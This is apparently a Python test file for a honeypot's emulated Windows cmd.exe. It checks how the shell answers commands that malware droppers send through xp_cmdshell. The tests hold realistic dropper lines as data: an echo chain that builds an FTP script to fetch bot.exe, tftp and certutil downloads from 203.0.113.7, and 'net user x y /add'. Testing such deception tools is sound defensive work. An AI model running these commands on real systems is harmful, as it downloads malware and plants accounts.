"""cmd.exe's answers: what droppers type into xp_cmdshell and into shells."""

from __future__ import annotations

from muscipula.capture.cmdexe import Cmd, Host

HOST = Host("FILESRV02", "nt authority\\system", "6.1.7601")

NOT_FOUND = ["'{}' is not recognized as an internal or external command,",
             "operable program or batch file."]


def test_recon_commands_answer_as_the_host() -> None:
    cmd = Cmd(HOST)
    assert cmd.run("whoami") == ["nt authority\\system"]
    assert cmd.run("hostname") == ["FILESRV02"]
    assert cmd.run("ver") == ["", "Microsoft Windows [Version 6.1.7601]"]
    assert cmd.run("echo %COMPUTERNAME% in %cd%") == ["FILESRV02 in C:\\Windows\\system32"]
    assert "COMPUTERNAME=FILESRV02" in cmd.run("set")
    assert cmd.banner[0] == "Microsoft Windows [Version 6.1.7601]"
    assert cmd.prompt == "C:\\Windows\\system32>"


def test_echo_builds_a_script_that_type_shows() -> None:
    cmd = Cmd(HOST)
    line = ("echo open 203.0.113.7 2121> s.txt&echo user anon pw>>s.txt &"
            "echo binary >> s.txt & echo get bot.exe>>s.txt&echo bye>>s.txt")
    assert cmd.run(line) == []
    assert cmd.run("type s.txt") == ["open 203.0.113.7 2121", "user anon pw", "binary",
                                     "get bot.exe", "bye"]
    assert cmd.run('type "C:\\Windows\\system32\\S.TXT"')[0] == "open 203.0.113.7 2121"
    assert cmd.run("echo again > s.txt") == [] and cmd.run("type s.txt") == ["again"]
    assert cmd.run("type nothing.txt") == ["The system cannot find the file specified."]
    assert cmd.run("echo x > nul") == [] and "c:\\windows\\system32\\nul" not in cmd.files


def test_separators_quotes_and_nested_cmd() -> None:
    cmd = Cmd(HOST)
    assert cmd.run("echo a && echo b || echo c | echo d") == ["a", "b"]
    assert cmd.run("nosuchcmd && echo OK")[-1] == "operable program or batch file."
    assert cmd.run("nosuchcmd || echo FAILED")[-1] == "FAILED"
    assert cmd.run("whoami || echo FAILED") == ["nt authority\\system"]
    assert cmd.run("ipconfig | findstr /i ipv4")[0].startswith("   IPv4 Address")
    assert cmd.run("whoami | find \"admin\" || echo no") == ["no"]
    assert cmd.run("& whoami") == ["& was unexpected at this time."]
    assert cmd.run("echo a &") == ["a"]
    assert cmd.run('echo "x & y"') == ['"x & y"']
    assert cmd.run('cmd /c "echo one & whoami"') == ["one", "nt authority\\system"]
    assert cmd.run("cmd.exe /q /c ver") == ["", "Microsoft Windows [Version 6.1.7601]"]
    # a nested cmd is a shell of its own: its exit and cd end with it, its files stay
    assert cmd.run("cmd /c exit & whoami") == ["nt authority\\system"] and not cmd.exited
    assert cmd.run('cmd /c "cd \\ & echo x > f.txt"') == [] and cmd.prompt.endswith("32>")
    assert cmd.run("type \\f.txt") == ["x"]  # written where the inner shell was
    # a cmd /c nested without end stops being followed
    assert cmd.run("cmd /c " * 50 + "whoami") == []


def test_cd_moves_the_prompt() -> None:
    cmd = Cmd(HOST)
    assert cmd.run("cd ..") == [] and cmd.prompt == "C:\\Windows>"
    assert cmd.run("cd") == ["C:\\Windows"]
    assert cmd.run("cd \\temp") == [] and cmd.prompt == "C:\\temp>"
    assert cmd.run("cd /d d:\\x\\..\\y") == [] and cmd.prompt == "D:\\y>"
    assert cmd.run("c:") == [] and cmd.prompt == "C:\\>"
    assert cmd.run("cd ..\\..\\..") == [] and cmd.prompt == "C:\\>"


def test_programs_are_silent_unknown_words_are_not() -> None:
    cmd = Cmd(HOST)
    for line in ("tftp -i 203.0.113.7 GET a.exe", "ftp -n -s:o", "start a.exe", "a.exe",
                 "C:\\Users\\Public\\b.bat", "del /F /Q o", "net user x y /add",
                 "certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe", "@echo off",
                 "echo off", "rem nothing"):
        assert cmd.run(line) == [], line
    assert cmd.run("frobnicate now") == [NOT_FOUND[0].format("frobnicate"), NOT_FOUND[1]]
    assert cmd.run("echo") == ["ECHO is on."] and cmd.run("echo.") == [""]


def test_lines_and_paths_are_bounded_as_cmd_bounds_them() -> None:
    cmd = Cmd(HOST)
    assert cmd.run("echo " + "x" * 9000) == ["The input line is too long."]
    for _ in range(7):
        cmd.run("cd " + "a" * 60)
    assert len(cmd.cwd) <= 247
    assert cmd.run("cd " + "a" * 300) == ["The filename or extension is too long."]
    # %cd% cannot blow a short line up past cmd's own limit
    assert cmd.run("echo " + "%cd%" * 1700) == ["The input line is too long."]


def test_exit_ends_the_chain() -> None:
    cmd = Cmd(HOST)
    assert cmd.run("whoami & exit & hostname") == ["nt authority\\system"]
    assert cmd.exited


def test_files_are_bounded() -> None:
    cmd = Cmd(HOST, max_file_chars=20)
    cmd.run("echo 0123456789 > a")
    cmd.run("echo 0123456789 >> a")
    cmd.run("echo 0123456789 >> a")  # past the room: not written
    assert cmd.run("type a") == ["0123456789", "0123456789"]
